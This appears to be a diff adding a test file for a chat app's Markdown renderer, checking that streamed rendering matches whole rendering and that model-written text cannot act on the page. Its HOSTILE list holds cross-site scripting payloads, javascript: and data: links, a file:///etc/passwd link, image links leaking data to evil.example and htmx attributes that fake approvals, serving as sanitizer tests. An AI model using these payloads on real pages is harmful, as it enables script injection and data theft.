@@ -1,0 +1,214 @@
+"""What a model writes, as a page shows it: nothing in it can act, and it costs no more to stream than to show."""
+
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from django.template import Context, Template
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hitlchat.chat import markdown
+from hitlchat.chat.markdown import ATTRIBUTES, TAGS, OpenTail, render
+
+DOCUMENTS = {
+    "nothing": "",
+    "a word": "Hello",
+    "paragraphs": "One\nline two\n\nTwo\n\n\n\nThree\n",
+    "headings": "# One\ntext\n## Two\ntext\nThree\n=====\nFour\n---\nend",
+    "a list": "- one\n- two\n\n  more of two\n- three\n\nafter\n\n1. a\n2. b\n",
+    "a loose list": "* one\n\n* two\n\n* three\n\nend",
+    "nested lists": "1. one\n   - a\n   - b\n\n     c\n2. two\n",
+    "a fence": "before\n```python\ndef f(x):\n\n    return '<b>'\n```\nafter\n",
+    "an open fence": "before\n\n```\nnever closed\n\nstill code\n\n# no heading\n",
+    "a tilde fence": "~~~js\nlet a = `b`;\n~~~\n\ntext",
+    "indented code": "text\n\n    code\n\n    more code\n\ntext",
+    "a quote": "> one\n> two\nlazy\n\n> three\n\nend",
+    "a table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | 4 |\n\nafter",
+    "emphasis": "*a* **b** ***c*** ~~d~~ `e` \\*f\\*\n\n_g_",
+    "rules": "a\n\n---\n\nb\n\n***\n",
+    "links": "[a](https://a.example) <https://b.example> [c](/c 'title')\n",
+    "html": "<div>\n\n*a*\n\n</div>\n\n<!-- x\n\ny -->\n",
+    "line ends": "a\r\n\r\nb\rc\r\n- d\r\n- e\r\n",
+    "wide letters": "Grüße 🎈\n\n日本語\n\n- 🇩🇪\n",
+    "long lines": "word " * 600 + "\n\n" + "x" * 3000,
+}
+PIECES = ["a", "word ", "\n", "\n\n", "- ", "1. ", "> ", "# ", "```", "```py\n", "    ", "|", "|-|-|\n", "*", "**", "`",
+          "[", "](", ")", "<", ">", "&", "\\", "---\n", "~~", "é", "🎈", "\t", "\r\n", "\r", "=", "!"]  # fmt: skip
+
+
+def streamed(pieces: list[str]) -> OpenTail:
+    """All pieces, and the end of the answer."""
+    tail = OpenTail()
+    for piece in pieces:
+        tail.extend(piece)
+    tail._render()
+    return tail
+
+
+def chopped(text: str, size: int) -> list[str]:
+    return [text[start : start + size] for start in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize("size", [1, 2, 7, 50])
+@pytest.mark.parametrize("name", DOCUMENTS)
+def test_a_streamed_document_looks_like_the_whole_one(name: str, size: int) -> None:
+    tail = streamed(chopped(DOCUMENTS[name], size))
+    assert same(tail, DOCUMENTS[name])
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=60))
+def test_any_streamed_text_looks_like_the_whole_one(pieces: list[str]) -> None:
+    assert same(streamed(pieces), "".join(pieces))
+
+
+def same(tail: OpenTail, text: str) -> bool:
+    whole, parts = str(render(text)), "".join(tail.blocks) + tail.tail
+    assert squeezed(parts) == squeezed(whole)
+    return True
+
+
+def squeezed(html: str) -> str:
+    """White space between tags aside."""
+    return re.sub(r">\s+<", "><", html).strip()
+
+
+def test_finished_blocks_never_change() -> None:
+    tail, before = OpenTail(), list[str]()
+    for piece in chopped("\n\n".join(DOCUMENTS.values()), 5):
+        tail.extend(piece)
+        assert tail.blocks[: len(before)] == before
+        before = list(tail.blocks)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "word " * 20_000,
+        "A paragraph.\n\n" * 7_000,
+        "- an item\n" * 10_000,
+        "```\n" + "code\n" * 20_000,
+        "| a |\n|-|\n" + "| 1 |\n" * 15_000,
+    ],
+    ids=["one paragraph", "many paragraphs", "one list", "one fence", "one table"],
+)
+def test_streaming_a_long_answer_renders_each_character_a_bounded_number_of_times(
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    parsed = count_parsed(monkeypatch)
+    tail = OpenTail()
+    for piece in chopped(text, 20):
+        tail.extend(piece)
+    assert sum(parsed) < 60 * len(text)
+
+
+def count_parsed(monkeypatch: pytest.MonkeyPatch) -> list[int]:
+    """The lengths of all texts that the Markdown library gets to parse."""
+    lengths: list[int] = []
+    library = markdown.parser.core.process
+
+    def process(state: Any) -> None:
+        lengths.append(len(state.src))
+        library(state)
+
+    monkeypatch.setattr(markdown.parser.core, "process", process)
+    return lengths
+
+
+# -- Nothing acts -----------------------------------------------------------------------------------------------------
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x0A;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/?leak=secret)",
+    "![x](data:image/png;base64,AAAA)",
+    "![x][r]\n\n[r]: https://evil.example/?leak",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '<div hx-get="/studio" hx-trigger="load" hx-swap-oob="true" id="asks">x</div>',
+    '<form ws-send><input name="type" value="decide"><button>Approve</button></form>',
+    '<a href="/x" hx-post="/approvals" onclick="alert(1)" style="position:fixed" data-approve>x</a>',
+    '[x](https://a.example "a\\" onmouseover=\\"alert(1)")',
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```py onclick=alert(1)\nx\n```",
+    "`<script>alert(1)</script>`",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<style>*{display:none}</style><base href=https://evil.example><meta http-equiv=refresh content=0>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "| <script>alert(1)</script> |\n|-|\n| ![x](https://evil.example) |",
+    "\x00<scr\x00ipt>alert(1)</script>",
+    '<https://a.example/"onmouseover=alert(1)>',
+]
+
+
+class Seen(HTMLParser):
+    """Every tag and attribute as a browser would find them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in Seen(html).tags:
+        assert tag in TAGS
+        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
+        address = attributes.get("href") or ""
+        assert not re.match(r"\s*[a-z]+:", address, re.IGNORECASE) or re.match(r"(https?|mailto):", address)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_that_a_model_writes_can_act(text: str) -> None:
+    assert_harmless(str(render(text)))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_can_act_in_the_middle_of_an_answer_either(text: str) -> None:
+    tail = OpenTail()
+    for letter in text + "\n\nend":
+        tail.extend(letter)
+        assert_harmless("".join(tail.blocks) + tail.tail)
+
+
+@given(st.text(alphabet=st.sampled_from(list("<>\"'=/()[]!`&;: \naonerrorjavscriptx")), max_size=80))
+def test_no_mixture_of_these_letters_can_act(text: str) -> None:
+    assert_harmless(str(render(text)))
+
+
+def test_an_image_would_tell_its_server_what_was_said_and_so_there_are_none() -> None:
+    assert "evil.example" not in str(render("![look](https://evil.example/?leak=secret)"))
+
+
+def test_a_link_says_where_it_leads_and_gives_nothing_away() -> None:
+    assert 'href="https://a.example"' in render("[x](https://a.example)")
+    assert 'rel="noopener noreferrer"' in render("[x](https://a.example)")
+
+
+def test_code_is_coloured_by_classes_alone() -> None:
+    html = str(render("```python\ndef f():\n    pass\n```"))
+    assert '<span class="k">def</span>' in html
+    assert "style=" not in html
+
+
+def test_hidden_characters_of_a_user_are_shown_as_what_they_are() -> None:
+    shown = Template("{{ text|seen }}").render(Context({"text": "pay\u202e\u200b<b>"}))
+    assert "\u202e" not in shown
+    assert "\u200b" not in shown
+    assert "U+202E" in shown
+    assert "&lt;b&gt;" in shown
